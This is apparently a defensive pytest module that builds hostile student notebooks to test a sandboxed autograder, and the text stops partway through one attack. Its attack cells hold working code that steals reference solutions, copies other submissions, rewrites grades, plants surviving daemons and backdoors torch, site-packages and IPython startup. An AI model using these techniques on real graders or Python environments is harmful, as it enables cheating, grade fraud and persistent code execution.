"""An attack corpus against the sandboxed grader: hostile notebooks, graded as ONE batch with the sandbox on.

Each attack is a notebook a hostile student could hand in: the released notebook with the solutions filled in
and, mostly, the wrong decoder of the ``wrong_decoder`` sample (honestly 3.25 / 4: its Decoder ends with a ReLU),
plus one code cell, after the graded cell it is about or at the end, that tries to get more than that: read the
reference solutions or another student's notebook, rewrite the grades, leave a process behind, signal or stop
the grader, backdoor the installed packages, reach the network or another kernel, fill the disk, send huge
texts, send a malformed notebook, forge the observations, or fool the judges with a forward pass that ignores
its layers. Honest submissions (the solution, 4 / 4, and the wrong decoder, 3.25 / 4) are graded in the same
batch, before, among and after the attacks, and must keep their exact scores.

The batch is run by a grading script saved in the batch folder next to ``submitted/`` (as a course's ``grade.py``
usually is), started from the repository root: the grader then has that folder on its ``sys.path``, as it would on
an instructor's machine.

While the batch runs, the test watches the grader's temporary folder on this machine (where the sandbox's scratch
folders are): a file an attack wrote there must be gone once its submission is graded, and code an attack planted
there must not run in any other process.

After the batch the test checks what the attacks would have left behind: no process with the marker
(``CKATTACK``, in every attack's file names, process names and command lines), the installed packages
(site-packages' top level, torch, ``course_utils``, ``autograder``: the last two are the repository's, which others
may edit while the batch runs, so there a changed file counts when it holds the marker) and the real home's
``.ipython`` unchanged,
the output folder unchanged a few seconds after the batch, no file with the marker outside the sandbox, no
connection to the listeners the test opens (a TCP port on 127.0.0.1, a UNIX socket file and an abstract one).

Every attack was first run *without* the sandbox (``GradeOptions(sandbox=False)``, next to an honest notebook
graded at the same time), inside a throw-away bubblewrap container of its own (a new process namespace, a
network namespace with its own listeners, temporary overlays over /root, /work and /tmp and an empty root
file system), so that what it tried did not touch this machine; its ``doc`` says what it achieved there.

For safety on a shared machine, the attacks that write, connect or drive other kernels only go after paths
that hold the marker (the test's batch folder and the grader's temporary folder, which the test puts under a
marker folder with TMPDIR); the payloads written into packages or the home folder are comments. A real
attacker would aim wider; what the sandbox lets through does not depend on it.

The batch runs in a subprocess, bounded: an attack that stops the grader makes it hang, and the test then
ends it (``BATCH_DEADLINE``, or ``STALL`` seconds without a new result) and reports what was still running.
"""
from __future__ import annotations

import copy
import csv
import fcntl
import hashlib
import importlib.util
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from autograder.batch import load_results
from autograder.release import make_sample_submissions

from test_hostile import _append, _insert_after, _read  # the same notebook edits as the hostile corpus

PSET = "autoencoder_probing"
NB = "autoencoder_probing.ipynb"
MARKER = "CKATTACK"
REPO = Path(__file__).resolve().parent.parent
OPTIONS = {"cell_timeout": 8, "probe_timeout": 8, "total_timeout": 120, "memory_mb": 1500,  # sandbox: the default
           "max_restarts": 3}
WORKERS = 2
PORTS = range(47310, 47330)  # the test listens on the first free one; the TCP attack tries them all
BATCH_DEADLINE = 420  # seconds for the whole batch
STALL = 60  # seconds without a new result while submissions are still being graded: the batch hangs
LATER = 5  # seconds waited after the batch before looking again (processes, output folder)
MAX_TEXT_BYTES = 2 * 2**20  # a result's JSON and feedback page stay below this


# ---- building notebooks (as in test_hostile) ------------------------------------------------------

# ---- code the attacks share (each attack cell carries the helpers it uses, as a student would paste them) ---

_FIND = r'''
import ast, collections, glob, json, os, re, sys, time

MARK = "CKATTACK"

def _walk(roots, match, seconds=4.0, max_depth=8):
    """Breadth-first search of `roots` for at most `seconds`: the files (not folders) for which match(path) holds."""
    end = time.monotonic() + seconds
    queue = collections.deque((r, 0) for r in roots if r and os.path.isdir(r))
    seen, found = set(), []
    while queue and time.monotonic() < end:
        folder, depth = queue.popleft()
        real = os.path.realpath(folder)
        if real in seen or real in ("/proc", "/sys", "/dev"):
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for e in entries:
            try:
                if e.is_dir(follow_symlinks=False):
                    if depth < max_depth and e.name not in (".git", "node_modules", "__pycache__"):
                        (queue.appendleft if MARK in e.name else queue.append)((e.path, depth + 1))
                elif match(e.path):
                    found.append(e.path)
            except OSError:
                continue
    return found

def _parents(path):
    path = os.path.abspath(path)
    out = []
    while True:
        out.append(path)
        up = os.path.dirname(path)
        if up == path:
            return out
        path = up

def _host_paths():
    """Paths /proc tells about: mounts, every process's cwd, command line and environment, mapped files."""
    paths = set()
    try:
        for line in open("/proc/self/mountinfo"):
            f = line.split()
            paths.update([f[3], f[4]])
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            paths.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                arg = arg.decode(errors="replace")
                if arg.startswith("/"):
                    paths.add(arg)
        except OSError:
            pass
        try:
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                for part in item.decode(errors="replace").partition("=")[2].split(":"):
                    if part.startswith("/"):
                        paths.add(part)
        except OSError:
            pass
    try:
        for line in open("/proc/self/maps"):
            f = line.split()
            if len(f) >= 6 and f[5].startswith("/"):
                paths.add(f[5])
    except OSError:
        pass
    return paths

def _package_dirs_from_site():
    """Where pip's records say the course kit lives: editable finders, direct_url.json, .pth and .egg-link files."""
    out = set()
    sites = {p for p in sys.path if p and "-packages" in p}
    try:
        import site
        sites.update(site.getsitepackages())
    except Exception:
        pass
    for sp in sites:
        for f in glob.glob(os.path.join(sp, "__editable__*finder.py")):
            try:
                out.update(re.findall(r"'autograder': '([^']+)'", open(f).read()))
            except OSError:
                pass
        for f in glob.glob(os.path.join(sp, "*.dist-info", "direct_url.json")):
            try:
                url = json.load(open(f)).get("url", "")
                if url.startswith("file://"):
                    out.add(os.path.join(url[7:], "autograder"))
            except (OSError, ValueError):
                pass
        for f in glob.glob(os.path.join(sp, "*.pth")) + glob.glob(os.path.join(sp, "*.egg-link")):
            try:
                for line in open(f):
                    line = line.strip()
                    if line.startswith("/"):
                        out.add(os.path.join(line, "autograder"))
            except OSError:
                pass
        out.add(os.path.join(sp, "autograder"))
    return out

def _decoder_from(text, where):
    """exec the `class Decoder` (ending with a Sigmoid) of a Python source into the notebook; True when done."""
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError):
        return False
    for node in tree.body:
        if isinstance(node, ast.ClassDef) and node.name == "Decoder":
            segment = ast.get_source_segment(text, node)
            if "Sigmoid" not in segment:
                continue
            exec(segment, globals())
            print(f"{MARK}: took Decoder from {where}")
            return True
    return False

def _decoder_from_notebook(path):
    try:
        nb = json.load(open(path))
    except (OSError, ValueError, RecursionError):
        return False
    for cell in nb.get("cells", []) if isinstance(nb, dict) else []:
        src = cell.get("source", "") if isinstance(cell, dict) else ""
        src = "".join(src) if isinstance(src, list) else str(src)
        if cell.get("cell_type") == "code" and "class Decoder" in src and "Sigmoid()" in src and "NotImplementedError" not in src:
            src = "\n".join(l for l in src.splitlines() if "BEGIN SOLUTION" not in l and "END SOLUTION" not in l)
            if _decoder_from(src, path):
                return True
    return False

def _reference_file(folder):
    for path in (os.path.join(folder, "judges", "autoencoder_probing.py"), os.path.join(folder, "autoencoder_probing.py")):
        if os.path.isfile(path):
            return path
    return None
'''

_GRADES = r'''
import collections, csv, json, os, re, time

MARK = "CKATTACK"

def out_folders(seconds=3.0):
    """Output folders of a grading run (results/ next to grades.csv, feedback/ or .running/) under the usual
    roots. (Only folders whose path holds the marker: the machine that runs the test is shared.)"""
    end = time.monotonic() + seconds
    roots = ["/tmp", "/var/tmp", os.path.expanduser("~"), "/work", "/home", "/srv", "/root", "/autograder"]
    queue = collections.deque((r, 0) for r in roots if os.path.isdir(r))
    found, seen = [], set()
    while queue and time.monotonic() < end:
        folder, depth = queue.popleft()
        if folder in seen:
            continue
        seen.add(folder)
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        if "results" in names and MARK in folder and {"grades.csv", "feedback", ".running"} & set(names):
            found.append(folder)
        if depth < 6:
            for name in names:
                path = os.path.join(folder, name)
                if name not in ("proc", "sys", ".git", "__pycache__", "site-packages") and os.path.isdir(path) \
                        and not os.path.islink(path):
                    (queue.appendleft if MARK in name else queue.append)((path, depth + 1))
    return found

def full_marks(path):
    with open(path) as fh:
        data = json.load(fh)
    for unit in data.get("units", []):
        for check in unit.get("checks", []):
            check["passed"], check["points"] = True, check.get("max_points", 0)
        unit["points"] = unit.get("max_points", unit.get("points"))
    data["notes"] = [n for n in data.get("notes", []) if MARK not in n] + [MARK]
    with open(path, "w") as fh:
        json.dump(data, fh)

def full_marks_csv(path):
    with open(path, newline="") as fh:
        rows = list(csv.reader(fh))
    if not rows or "total" not in rows[0]:
        return
    total, top = rows[0].index("total"), rows[0].index("max")
    for row in rows[1:]:
        if len(row) > top:
            row[total] = row[top]
    with open(path, "w", newline="") as fh:
        csv.writer(fh).writerows(rows)

def rewrite_grades(folder):
    done = []
    results = os.path.join(folder, "results")
    for name in sorted(os.listdir(results)) if os.path.isdir(results) else []:
        if name.endswith(".json"):
            try:
                full_marks(os.path.join(results, name))
                done.append(name)
            except Exception:
                pass
    if os.path.isfile(os.path.join(folder, "grades.csv")):
        try:
            full_marks_csv(os.path.join(folder, "grades.csv"))
            done.append("grades.csv")
        except Exception:
            pass
    feedback = os.path.join(folder, "feedback")
    for name in sorted(os.listdir(feedback)) if os.path.isdir(feedback) else []:
        path = os.path.join(feedback, name)
        try:
            text = open(path).read()
            text = re.sub(r"Autograded score: [0-9.]+ / ([0-9.]+)", r"Autograded score: \1 / \1", text)
            open(path, "w").write(text)
            done.append(name)
        except Exception:
            pass
    try:
        open(os.path.join(folder, MARK + "_was_here.txt"), "w").write(MARK)
    except OSError:
        pass
    return done
'''

# What a process left behind runs: for 60 s, rewrite every grade it can reach (and Gradescope's results file).
LINGER = "# CKATTACK lingering grade rewriter\n" + _GRADES + r'''
import signal
for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGPIPE):
    try:
        signal.signal(s, signal.SIG_IGN)
    except Exception:
        pass
end = time.time() + 60
folders, scanned = [], 0.0
while time.time() < end:
    if time.time() - scanned > 5:
        folders, scanned = out_folders(2.0), time.time()
    for folder in folders:
        try:
            rewrite_grades(folder)
        except Exception:
            pass
    if os.path.isdir("/autograder/results"):
        try:
            json.dump({"score": 4.0, "output": MARK}, open("/autograder/results/results.json", "w"))
        except OSError:
            pass
    time.sleep(0.5)
'''

PAYLOAD = "\n# CKATTACK backdoor (a real one would add: torch.allclose = lambda *a, **k: True)\n"


def _with_linger(body: str) -> str:
    return "LINGER = " + repr(LINGER) + "\n" + body


# ---- the attacks ----------------------------------------------------------------------------------

@dataclass
class Attack:
    name: str  # the student id (its order decides when it is graded: signals last)
    klass: int  # the class of attack (1-11, as in the brief)
    source: str = ""  # the attack cell
    after: str | None = None  # grade_id of the cell the attack cell follows; None: appended at the end
    max_score: float = 3.25  # what its honest code deserves, at most
    doc: str = ""  # what it tries; what it achieved without the sandbox (verified)
    fails: tuple = ()  # checks that must not pass
    flagged: bool = False  # the instructor must be told
    zero: bool = False  # 0 with a note
    small: bool = False  # its result and feedback stay small
    build: object = None  # builds the whole file (malformed notebooks): build(wrong_nb) -> str


ATTACKS = [
    # 1. reading the reference solutions off disk
    Attack("a1_ref_import_system", 1, after="decoder", doc="""
        find_spec('autograder') with the grader's import blocker removed from sys.meta_path, the editable
        finder's MAPPING, then the folders above course_utils put on sys.path; execs the reference Decoder.
        Without the sandbox: 4 / 4: the reference Decoder, through find_spec once the blocker was out of
        sys.meta_path.
        """,
           source=_FIND + r'''
# CKATTACK: ask the import system where the instructor's package is, with the grader's blocker out of the way
import importlib, importlib.util
import course_utils
blockers = [f for f in sys.meta_path if "Blocked" in type(f).__name__]
for b in blockers:
    sys.meta_path.remove(b)
folders = []
try:
    for attempt in range(2):
        for name in ("autograder", "autograder.autoencoder_probing"):
            sys.modules.pop(name, None)
            try:
                spec = importlib.util.find_spec(name)
            except Exception as exc:
                print(MARK, name, type(exc).__name__, exc)
                spec = None
            if spec is not None:
                folders += list(spec.submodule_search_locations or [os.path.dirname(spec.origin or "")])
        if folders:
            break
        # not found: the course repository above the student library goes on the path
        sys.path[:0] = [p for p in _parents(os.path.realpath(course_utils.__path__[0]))[1:]]
    for mod in list(sys.modules.values()):  # setuptools' editable finder keeps its MAPPING in memory
        mapping = getattr(mod, "MAPPING", None)
        if isinstance(mapping, dict) and "autograder" in mapping:
            folders.append(mapping["autograder"])
finally:
    sys.meta_path[:0] = blockers
for folder in folders:
    ref = _reference_file(folder)
    if ref and _decoder_from(open(ref).read(), ref):
        break
else:
    print(MARK, "no reference Decoder; looked in", folders)
'''),
    Attack("a2_ref_walk_up", 1, after="decoder", doc="""
        walks up from course_utils.__file__ (and its real path) looking for autograder/autoencoder_probing.py
        next to it or one level down.
        Without the sandbox: 4 / 4: found the reference above course_utils.
        """,
           source=_FIND + r'''
# CKATTACK: the instructor's package usually sits next to the student library: walk up from course_utils
import course_utils, course_utils.probes
starts = {course_utils.__file__, os.path.realpath(course_utils.__file__), *course_utils.__path__,
          *course_utils.probes.__path__}
done = False
for start in sorted(starts):
    for folder in _parents(start):
        refs = [os.path.join(folder, "autograder", sub, "autoencoder_probing.py") for sub in ("judges", "")]
        refs += glob.glob(os.path.join(folder, "*", "autograder", "*", "autoencoder_probing.py"))
        refs += glob.glob(os.path.join(folder, "*", "autograder", "autoencoder_probing.py"))
        for ref in refs:
            if os.path.isfile(ref) and _decoder_from(open(ref).read(), ref):
                done = True
                break
        if done:
            break
    if done:
        break
if not done:
    print(MARK, "nothing above", sorted(starts))
'''),
    Attack("a3_ref_proc", 1, after="decoder", doc="""
        /proc/self/mountinfo, /proc/*/cwd, /proc/*/cmdline, /proc/*/environ and /proc/self/maps give paths; their
        parents are searched for autograder/autoencoder_probing.py.
        Without the sandbox: 4 / 4: found the reference from a path in /proc.
        """,
           source=_FIND + r'''
# CKATTACK: /proc says where things are: mounts, every process's working folder, command line and environment
paths = _host_paths()
done = False
for path in sorted(paths):
    for folder in _parents(path if os.path.isdir(path) else os.path.dirname(path)):
        ref = _reference_file(os.path.join(folder, "autograder"))
        if ref and _decoder_from(open(ref).read(), ref):
            done = True
            break
    if done:
        break
if not done:
    print(MARK, "nothing found from", len(paths), "paths in /proc")
'''),
    Attack("a4_ref_site_packages", 1, after="decoder", doc="""
        pip's records in site-packages (editable finder files, direct_url.json, .pth, .egg-link) and a glob of
        site-packages for autoencoder_probing.py.
        Without the sandbox: 4 / 4: found the reference through pip's records.
        """,
           source=_FIND + r'''
# CKATTACK: pip's own records in site-packages say where the course kit was installed from
candidates = sorted(_package_dirs_from_site())
for sp in {p for p in sys.path if p and "-packages" in p}:
    candidates += [os.path.dirname(p) for p in glob.glob(os.path.join(sp, "*", "autoencoder_probing.py"))
                   + glob.glob(os.path.join(sp, "*", "*", "autoencoder_probing.py"))
                   + glob.glob(os.path.join(sp, "*", "*", "*", "autoencoder_probing.py"))]
for folder in candidates:
    ref = _reference_file(folder)
    if ref and _decoder_from(open(ref).read(), ref):
        break
else:
    print(MARK, "no reference among", candidates[:20])
'''),
    Attack("a5_ref_walk_disk", 1, after="decoder", doc="""
        searches the disk (cwd's parents, home, /work, /root, /home, /srv, /opt, /tmp, then /) for 5 s for
        autoencoder_probing.py or a notebook with solutions.
        Without the sandbox: 4 / 4: found the reference on disk within 5 s.
        """,
           source=_FIND + r'''
# CKATTACK: search the whole disk (the likely places first), 5 s at most, for the reference or a solution notebook
roots = [p for p in _parents(os.getcwd()) if p != "/"] + [os.path.expanduser("~"), "/work", "/root", "/home", "/srv",
                                                         "/opt", "/tmp", "/mnt", "/data", "/autograder", "/"]
def _wanted(path):
    name = os.path.basename(path)
    if name == "autoencoder_probing.py":
        return True
    if name.endswith(".ipynb"):
        try:
            with open(path, "rb") as fh:
                head = fh.read(400_000)
        except OSError:
            return False
        return b"BEGIN SOLUTION" in head
    return False
found = _walk(roots, _wanted, seconds=5.0)
end = time.monotonic() + 1.5
for path in sorted(found, key=lambda p: not p.endswith(".py")):
    if time.monotonic() > end:
        break
    if _decoder_from(open(path).read(), path) if path.endswith(".py") else _decoder_from_notebook(path):
        break
else:
    print(MARK, "searched the disk:", len(found), "candidates, no reference")
'''),
    Attack("a6_ref_alias_import", 1, after="decoder", doc="""
        the blocker refuses the name 'autograder': loads the package found on disk under another name
        (SourceFileLoader + spec_from_file_location) and takes its Decoder.
        Without the sandbox: 4 / 4: imported the reference package under another name.
        """,
           source=_FIND + r'''
# CKATTACK: the blocker refuses the name "autograder": load the same package under another name
import importlib, importlib.util, importlib.machinery, course_utils
folders = list(_package_dirs_from_site())
for path in list(_host_paths()) + [os.path.realpath(course_utils.__path__[0])]:
    folders += [os.path.join(p, "autograder") for p in _parents(path if os.path.isdir(path) else os.path.dirname(path))]
for folder in dict.fromkeys(folders):
    init = os.path.join(folder, "__init__.py")
    if not (os.path.isfile(os.path.join(folder, "autoencoder_probing.py")) and os.path.isfile(init)):
        continue
    loader = importlib.machinery.SourceFileLoader("ck_course_ref", init)
    spec = importlib.util.spec_from_file_location("ck_course_ref", init, loader=loader,
                                                  submodule_search_locations=[folder])
    pkg = importlib.util.module_from_spec(spec)
    sys.modules["ck_course_ref"] = pkg
    try:
        loader.exec_module(pkg)
        ref = importlib.import_module("ck_course_ref.autoencoder_probing")
    except Exception as exc:
        print(MARK, folder, type(exc).__name__, exc)
        continue
    Decoder = ref.Decoder
    print(MARK, "imported the reference as ck_course_ref from", folder)
    break
else:
    print(MARK, "no instructor package found")
'''),
    Attack("a7_ref_subprocess", 1, after="decoder", doc="""
        a fresh `python -c 'import autograder.autoencoder_probing'` (no blocker there), then with the folders
        above course_utils on PYTHONPATH; prints the Decoder's source and execs it.
        Without the sandbox: 4 / 4: the subprocess imported autograder and printed the reference.
        """,
           source=_FIND + r'''
# CKATTACK: the import blocker lives in this kernel only: a fresh Python has no such thing
import subprocess, course_utils
code = "# CKATTACK\nimport inspect, autograder.autoencoder_probing as m\nprint(inspect.getsource(m.Decoder))"
for pythonpath in (None, os.pathsep.join(_parents(os.path.realpath(course_utils.__path__[0]))[1:])):
    env = dict(os.environ)
    if pythonpath:
        env["PYTHONPATH"] = pythonpath
    try:
        res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=3.5, env=env)
    except subprocess.TimeoutExpired:
        continue
    if res.returncode == 0 and _decoder_from(res.stdout, "a subprocess"):
        break
    print(MARK, "subprocess:", res.stderr.strip().splitlines()[-1:])
'''),
    # 2. reading another submission
    Attack("b1_copy_other_submission", 2, after="decoder", doc="""
        searches cwd's parents, home, /tmp, /var/tmp, /work, /home, /srv for notebooks (nbgrader's submitted/
        first) and execs the first Decoder that ends with a Sigmoid.
        Without the sandbox: 4 / 4: copied the Decoder of the notebook graded next to it.
        """,
           source=_FIND + r'''
# CKATTACK: the class's other notebooks are on this machine: copy a Decoder that ends with a Sigmoid
roots = [p for p in _parents(os.getcwd()) if p != "/"] + [os.path.expanduser("~"), "/tmp", "/var/tmp", "/work",
                                                         "/home", "/srv", "/data"]
found = _walk(roots, lambda p: p.endswith(".ipynb"), seconds=4.0)
found.sort(key=lambda p: "submitted" not in p)
end = time.monotonic() + 2.5
for path in found:
    if time.monotonic() > end:
        break
    if _decoder_from_notebook(path):
        break
else:
    print(MARK, "no usable notebook among", len(found))
'''),
    Attack("b2_copy_instructor_notebook", 2, after="decoder", doc="""
        finds the course repository (from /proc, site-packages records, course_utils' real path) and takes the
        Decoder from source/ or solutions/ (the instructor's notebooks, with the solutions).
        Without the sandbox: 4 / 4: copied the Decoder from source/autoencoder_probing/autoencoder_probing.ipynb.
        """,
           source=_FIND + r'''
# CKATTACK: the instructor's own notebooks (with the solutions) are in the course repository: find it
import course_utils
starts = set(_host_paths()) | {os.path.realpath(course_utils.__path__[0])} | set(_package_dirs_from_site())
names = [os.path.join(d, "autoencoder_probing", "autoencoder_probing.ipynb") for d in ("source", "solutions", "release")]
seen, done = set(), False
for start in sorted(starts):
    for folder in _parents(start):
        if folder in seen:
            continue
        seen.add(folder)
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and _decoder_from_notebook(path):
                done = True
                break
        if done:
            break
    if done:
        break
if not done:
    print(MARK, "no course repository found")
'''),
    # 3. writing into the output folder
    Attack("c1_rewrite_results", 3, doc="""
        finds the batch's output folder and gives every result already written full marks (results/*.json,
        grades.csv, feedback pages), and leaves CKATTACK_was_here.txt there.
        Without the sandbox: found the output folder, rewrote what was there and left CKATTACK_was_here.txt (its own
        result is written again after it; a later process is what makes it last: d2).
        """,
           source=_GRADES + r'''
# CKATTACK: give every result already written full marks (grades.csv and feedback pages too)
folders = out_folders(4.0)
for folder in folders:
    print(MARK, folder, rewrite_grades(folder))
if not folders:
    print(MARK, "no output folder found")
'''),
    Attack("c2_sabotage_future_outputs", 3, doc="""
        the grader writes feedback/<student>.html and grades.csv at the end through a .tmp file and a rename:
        puts folders at those paths (every student's, this one's included), so the end of the batch fails.
        Without the sandbox: the batch ended with IsADirectoryError when writing the feedback: no grades.csv at all.
        """,
           source=_GRADES + r'''
# CKATTACK: put folders where the grader will write everyone's feedback and grades.csv (through .tmp files)
folders = out_folders(4.0)
for folder in folders:
    keys = {n[:-5] for n in os.listdir(os.path.join(folder, "results")) if n.endswith(".json")}
    running = os.path.join(folder, ".running")
    keys |= set(os.listdir(running)) if os.path.isdir(running) else set()
    for key in keys:
        for path in (os.path.join(folder, "feedback", key + ".html.tmp"), os.path.join(folder, "feedback", key + ".html")):
            try:
                os.makedirs(path, exist_ok=True)
            except OSError:
                pass
    for name in ("grades.csv.tmp", "grades.csv"):
        try:
            os.makedirs(os.path.join(folder, name), exist_ok=True)
        except OSError:
            pass
    open(os.path.join(folder, MARK + "_was_here.txt"), "w").write(MARK)
    print(MARK, "planted folders in", folder, sorted(keys))
if not folders:
    print(MARK, "no output folder found")
'''),
    Attack("c3_gradescope_results", 3, doc="""
        writes a full-marks /autograder/results/results.json (Gradescope reads it when the run ends), and the
        same in ~/results and /results.
        Without the sandbox: wrote /autograder/results/results.json (and ~/results, /results).
        """,
           source=r'''
# CKATTACK: on Gradescope the score is whatever /autograder/results/results.json says when the run ends
import json, os
fake = {"score": 4.0, "output": "CKATTACK: all tests passed",
        "tests": [{"name": n, "score": 1.0, "max_score": 1.0} for n in ("Encoder", "Decoder", "train_ae", "train_classifier")]}
for folder in ("/autograder/results", os.path.expanduser("~/results"), "/results"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "results.json"), "w") as fh:
            json.dump(fake, fh)
        open(os.path.join(folder, "CKATTACK_results_marker"), "w").write("CKATTACK")
        print("CKATTACK: wrote", folder)
    except OSError as exc:
        print("CKATTACK:", folder, exc)
'''),
    # 4. leaving a process behind (each runs LINGER: 60 s of rewriting the grades)
    Attack("d1_linger_popen_session", 4, after="imports", doc="""
        subprocess.Popen of `python -c LINGER` with start_new_session=True: a daemon in its own session.
        Without the sandbox: the daemon rewrote the grades while the batch ran (the other student's result got the
        marker); it was killed with the kernel's process tree at the end of the submission.
        """,
           source=_with_linger(r'''
# CKATTACK: a daemon in its own session keeps rewriting the grades after this notebook is done
import subprocess, sys
proc = subprocess.Popen([sys.executable, "-c", LINGER], start_new_session=True, stdin=subprocess.DEVNULL,
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
print("CKATTACK: daemon", proc.pid)
''')),
    Attack("d2_linger_double_fork", 4, after="imports", doc="""
        the classic double fork (fork, setsid, fork, exec python -c LINGER): the daemon is nobody's child.
        Without the sandbox: the daemon outlived the batch and kept rewriting: grades.csv changed after the batch,
        both its own result and the other student's (a wrong decoder, 3.25) became 4 / 4.
        """,
           source=_with_linger(r'''
# CKATTACK: double fork: the daemon is re-parented to init, nobody's child
import os, sys
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", LINGER])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("CKATTACK: double-forked")
''')),
    Attack("d3_linger_fork_child", 4, after="imports", doc="""
        os.fork() of the kernel itself, renamed CKATTACK-fork (prctl PR_SET_NAME), new session, runs LINGER.
        Without the sandbox: killed with the kernel's process tree (still its child) at the end of the submission.
        """,
           source=_with_linger(r'''
# CKATTACK: a copy of this kernel (os.fork) that stays behind, renamed, in a session of its own
import ctypes, os
if os.fork() == 0:
    try:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"CKATTACK-fork", 0, 0, 0)  # PR_SET_NAME: its name in ps
        exec(compile(LINGER, "CKATTACK-linger", "exec"), {"__name__": "__ckattack__"})
    finally:
        os._exit(0)
print("CKATTACK: forked")
''')),
    Attack("d4_linger_nohup", 4, after="imports", doc="""
        `nohup python CKATTACK_d4_linger.py &` through a shell.
        Without the sandbox: killed with the kernel's process group at the end of the submission.
        """,
           source=_with_linger(r'''
# CKATTACK: nohup ... & through a shell
import os, shlex, subprocess, sys
script = os.path.abspath("CKATTACK_d4_linger.py")
with open(script, "w") as fh:
    fh.write(LINGER)
subprocess.run(f"nohup {shlex.quote(sys.executable)} {shlex.quote(script)} >/dev/null 2>&1 &", shell=True)
print("CKATTACK: nohup started")
''')),
    # 6. backdooring packages (comment payloads: what a real attacker would add is in PAYLOAD)
    Attack("f1_backdoor_torch", 6, after="imports", doc="""
        appends to torch/__init__.py, torch/nn/modules/activation.py, torch/functional.py and creates
        torch/CKATTACK_backdoor.py (every later Python that imports torch, the grader's included, would run it).
        Without the sandbox: the four files written in torch's folder.
        """,
           source="PAYLOAD = " + repr(PAYLOAD) + r'''
# CKATTACK: backdoor torch, which the grader's judges import too
import os, torch
pkg = os.path.dirname(torch.__file__)
done = []
for rel in ("__init__.py", os.path.join("nn", "modules", "activation.py"), "functional.py", "CKATTACK_backdoor.py"):
    path = os.path.join(pkg, rel)
    try:
        with open(path, "a") as fh:
            fh.write(PAYLOAD)
        done.append(path)
    except OSError as exc:
        print("CKATTACK: cannot write", path, exc)
print("CKATTACK: backdoored", done)
'''),
    Attack("f2_backdoor_course_utils", 6, after="imports", doc="""
        appends to course_utils' __init__.py, probes/autoencoder_probing.py and grading/runtime.py (at the path
        it is imported from and its host path from mountinfo) and creates CKATTACK_backdoor.py there.
        Without the sandbox: the files written in the checkout's course_utils.
        """,
           source="PAYLOAD = " + repr(PAYLOAD) + r'''
# CKATTACK: backdoor the student library: the grader imports the same files
import os, course_utils, course_utils.probes
folders = {os.path.dirname(course_utils.__file__), os.path.realpath(os.path.dirname(course_utils.__file__))}
try:
    for line in open("/proc/self/mountinfo"):
        root = line.split()[3]
        if root.rstrip("/").endswith("course_utils"):
            folders.add(root)
except OSError:
    pass
done = []
for folder in sorted(folders):
    for rel in ("__init__.py", os.path.join("probes", "autoencoder_probing.py"), os.path.join("grading", "runtime.py"),
                "CKATTACK_backdoor.py"):
        path = os.path.join(folder, rel)
        try:
            with open(path, "a") as fh:
                fh.write(PAYLOAD)
            done.append(path)
        except OSError as exc:
            print("CKATTACK: cannot write", path, exc)
print("CKATTACK: backdoored", done)
'''),
    Attack("f3_backdoor_site_packages", 6, after="imports", doc="""
        writes CKATTACK_f3_site.pth and sitecustomize.py / usercustomize.py (appended to when they exist) into every
        site-packages folder (site.getsitepackages, the user site, sysconfig's purelib/platlib).
        Without the sandbox: CKATTACK_f3_site.pth, sitecustomize.py and usercustomize.py written in site-packages and the
        user site.
        """,
           source="PAYLOAD = " + repr(PAYLOAD) + r'''
# CKATTACK: a .pth file or sitecustomize.py in site-packages runs in every Python started afterwards
import os, site, sysconfig
folders = set(site.getsitepackages()) | {site.getusersitepackages(), sysconfig.get_paths()["purelib"],
                                         sysconfig.get_paths()["platlib"]}
done = []
for folder in sorted(folders):
    for name in ("CKATTACK_f3_site.pth", "sitecustomize.py", "usercustomize.py"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "a") as fh:
                fh.write(PAYLOAD)
            done.append(path)
        except OSError as exc:
            print("CKATTACK: cannot write", path, exc)
print("CKATTACK: wrote", done)
'''),
    Attack("f4_backdoor_ipython_startup", 6, after="imports", doc="""
        writes profile_default/startup/00-CKATTACK_f4_startup.py into every .ipython it can think of ($HOME, the passwd
        home, /root, /home/*, $IPYTHONDIR, the home of the process that forked this kernel).
        Without the sandbox: /root/.ipython/profile_default/startup/00-CKATTACK_f4_startup.py written.
        """,
           source="PAYLOAD = " + repr(PAYLOAD) + r'''
# CKATTACK: an IPython startup file runs in every later kernel of this user
import glob, os, pwd
homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root"} | set(glob.glob("/home/*"))
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except KeyError:
    pass
scratch = os.environ.get("COURSE_KIT_SCRATCH")
if scratch:  # the zygote's home, one folder up: shared by the kernels it forks
    homes.add(os.path.join(os.path.dirname(scratch), "home"))
targets = [os.path.join(h, ".ipython") for h in homes if h] + [os.environ.get("IPYTHONDIR", "")]
done = []
for ipdir in sorted(filter(None, set(targets))):
    startup = os.path.join(ipdir, "profile_default", "startup")
    try:
        os.makedirs(startup, exist_ok=True)
        with open(os.path.join(startup, "00-CKATTACK_f4_startup.py"), "w") as fh:
            fh.write(PAYLOAD)
        done.append(startup)
    except OSError as exc:
        print("CKATTACK: cannot write", startup, exc)
print("CKATTACK: startup files in", done)
'''),
    Attack("f5_backdoor_autograder", 6, after="imports", doc="""
        finds autograder/ (site-packages records, /proc, course_utils' real path) and appends to grader.py.
        Without the sandbox: autograder/grader.py of the checkout changed.
        """,
           source="PAYLOAD = " + repr(PAYLOAD) + _FIND + r'''
# CKATTACK: change the grader itself: append to autograder/grader.py wherever it is
